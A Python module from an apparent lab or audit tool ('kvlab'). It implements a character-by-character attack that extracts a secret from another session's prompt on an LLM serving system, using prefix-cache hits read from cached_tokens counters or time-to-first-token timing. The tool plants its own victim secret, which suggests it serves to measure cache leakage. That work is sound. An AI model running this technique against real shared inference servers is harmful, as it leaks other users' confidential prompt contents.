"""The character attack of ``kvlab probe --extract`` (the ``char`` strategy): the secret guessed from the left,
jointly up to the next boundary where the channel counts hits in blocks, by cached_tokens or the /metrics
counter (``run_cached``), else by TTFT with a rank test within repeats (``run_ttft``). See
``kvlab.probe.extract`` for the scenario and why the attacker's own guesses never count as evidence."""

from __future__ import annotations

import random
import statistics
import uuid
from collections.abc import Sequence

from kvlab.probe.attacks.base import (
    COUNT_CHANNELS,
    MAX_SECRET_CHARS,
    PREFIX_WORDS,
    TTFT_PREFIX_CHARS,
    Step,
    aligned_length,
    max_width,
    next_width,
    tokens,
)
from kvlab.probe.attacks.traffic import Attack
from kvlab.probe.timing import auc, midranks


def run_chars(run: Attack) -> None:
    """The character attack on the channel the calibration chose (a count channel, else TTFT)."""
    if run.report.channel in COUNT_CHANNELS:
        run_cached(run)
    else:
        run_ttft(run)


# ------------------------------------------------------------------ the cached_tokens channel
def run_cached(run: Attack) -> None:
    cfg, g = run.cfg, run.report.granularity
    assert g is not None
    reach = max_width(len(cfg.alphabet), cfg.max_candidates)
    base = f"[{run.run_id}] Internal note for the assistant. The access code is: "
    if cfg.prefix is not None:
        prefix = cfg.prefix
    else:
        first = max(1, min(reach, g, len(run.report.secret)))
        pad = aligned_length(len(base), g, first) - len(base)
        prefix = base[:-2] + "." * pad + base[-2:]
    run.report.prefix_chars = len(prefix)
    run.victim_prompts = [prefix + run.report.secret]
    run.resend_victims()
    # Does the attacker see the victim's prefix at all? (Ends in the filler: no guess can match it.)
    shown = (tokens(prefix) // g) * g
    run.report.prefix_hit_tokens = run.hits(run.attack(prefix + run.filler))
    run.report.prefix_visible = (run.report.prefix_hit_tokens or 0) >= shown if shown else None
    while len(run.report.recovered) < MAX_SECRET_CHARS:
        step = cached_step(run, prefix, run.report.recovered, g)
        run.report.steps.append(step)
        run.on_step()
        if step.outcome != "recovered":
            break
        run.recovered_step(step)


def cached_step(run: Attack, prefix: str, recovered: str, g: int) -> Step:
    known = tokens(prefix) + len(recovered)
    width = next_width(known, g)
    count = len(run.cfg.alphabet) ** width
    step = Step(len(recovered), width, count, 0, "no hit")
    if count > run.cfg.max_candidates:
        step.outcome = "unreachable"
        step.detail = (
            f"the next reporting boundary is {width} characters away: {len(run.cfg.alphabet)}**{width} joint "
            f"guesses exceed the budget of {run.cfg.max_candidates}"
        )
        return step
    run.resend_victims()
    for cand in run.candidates(width):
        step.tried += 1
        if run.hits(run.attack(prefix + recovered + cand + run.filler)) >= known + width:
            step.outcome, step.guess = "recovered", cand
            return step
    step.detail = f"none of the {count} candidates extended the cached prefix (end of the secret, or no sharing)"
    return step


# ------------------------------------------------------------------ the TTFT channel
def ttft_prefixes(run: Attack) -> list[str]:
    """One known prefix per repeat: the same text after another conversation id."""
    text = " ".join(run.rng.choice(PREFIX_WORDS) for _ in range(TTFT_PREFIX_CHARS // 4))
    out = []
    for j in range(run.cfg.ttft_repeats):
        head = f"[{run.run_id}-{j}] "
        out.append(head + text[: TTFT_PREFIX_CHARS - len(head) - 2] + ": ")
    return out


def ttft_visibility(run: Attack, prefixes: list[str]) -> None:
    """AUC of TTFT: the victim's prefixes (hits if shared) against fresh ones of the same length (misses)."""
    hits: list[float] = []
    misses: list[float] = []
    for p, victim in zip(prefixes, run.victim_prompts, strict=True):
        # Each pair right after its victim: the fresh prompts' blocks may have evicted the older victims.
        run.victim_send(victim)
        # The same kind of text as the victim's (the same words, another draw): random letters would cost a
        # BPE tokenizer two to three times the tokens, and their longer prefill would fake a visible hit.
        fresh = f"<{uuid.uuid4().hex}> " + " ".join(run.rng.choice(PREFIX_WORDS) for _ in range(len(p)))
        tests = [(True, p + run.filler), (False, fresh[: len(p)] + run.filler)]
        run.rng.shuffle(tests)
        for is_hit, prompt in tests:
            (hits if is_hit else misses).append(run.attack(prompt).seconds)
    run.report.prefix_ttft_auc = auc(hits, misses)
    run.report.prefix_visible = run.report.prefix_ttft_auc >= 0.9
    run.report.notes.append(
        f"victim prefix vs fresh prefix ({len(prefixes[0])} characters): median TTFT "
        f"{1000 * statistics.median(hits):.1f} vs {1000 * statistics.median(misses):.1f} ms, "
        f"AUC {run.report.prefix_ttft_auc:.2f}"
    )


def run_ttft(run: Attack) -> None:
    prefixes = ttft_prefixes(run)
    run.report.prefix_chars = len(prefixes[0])
    run.victim_prompts = [p + run.report.secret for p in prefixes]
    run.resend_victims()
    ttft_visibility(run, prefixes)
    while len(run.report.recovered) < MAX_SECRET_CHARS:
        step = ttft_step(run, prefixes, run.report.recovered)
        run.report.steps.append(step)
        run.on_step()
        if step.outcome != "recovered":
            break
        run.recovered_step(step)


def ttft_step(run: Attack, prefixes: list[str], recovered: str) -> Step:
    alphabet = run.cfg.alphabet
    step = Step(len(recovered), 1, len(alphabet), len(alphabet), "inconclusive")
    run.resend_victims()
    repeats: list[dict[str, float]] = []
    for p in prefixes:  # candidates interleaved within a repeat: drift hits all of them alike
        repeats.append({c: run.attack(p + recovered + c + run.filler).seconds for c in run.candidates(1)})
    best, p_value = fastest_by_rank(repeats, run.rng)
    medians = {c: statistics.median(r[c] for r in repeats) for c in alphabet}
    fastest = ", ".join(f"{c}:{1000 * m:.2f}" for c, m in sorted(medians.items(), key=lambda kv: kv[1])[:4])
    step.detail = (
        f"candidate {best!r} is fastest by rank over {len(repeats)} repeats with p = {p_value:.3g} "
        f"(needs <= {run.cfg.ttft_alpha}); median TTFT ms {fastest}"
    )
    if p_value <= run.cfg.ttft_alpha:
        step.outcome, step.guess = "recovered", best
    else:
        step.detail = "one cached character is within the timing noise: " + step.detail
    return step


def ranks_within(values: dict[str, float]) -> dict[str, float]:
    """Rank of each key by value, 0 = smallest; tied values share their mean rank (no tie picks a winner)."""
    return {k: r - 1 for k, r in zip(values, midranks(list(values.values())), strict=True)}


def fastest_by_rank(
    repeats: Sequence[dict[str, float]], rng: random.Random, permutations: int = 2000
) -> tuple[str, float]:
    """(the candidate with the lowest latency-rank sum over the repeats, its p-value). Null hypothesis: within
    each repeat the candidates' ranks are exchangeable; the statistic is the minimum rank sum over all
    candidates, so the p-value already pays for having picked the fastest one."""
    cands = sorted(repeats[0])
    ranks = [ranks_within(rep) for rep in repeats]
    sums = {c: sum(r[c] for r in ranks) for c in cands}
    best = min(cands, key=sums.__getitem__)
    rows = [[r[c] for c in cands] for r in ranks]
    as_low = 0
    for _ in range(permutations):
        totals = [0.0] * len(cands)
        for row in rows:
            shuffled = rng.sample(row, len(row))
            totals = [t + v for t, v in zip(totals, shuffled, strict=True)]
        as_low += min(totals) <= sums[best] + 1e-9
    return best, (as_low + 1) / (permutations + 1)
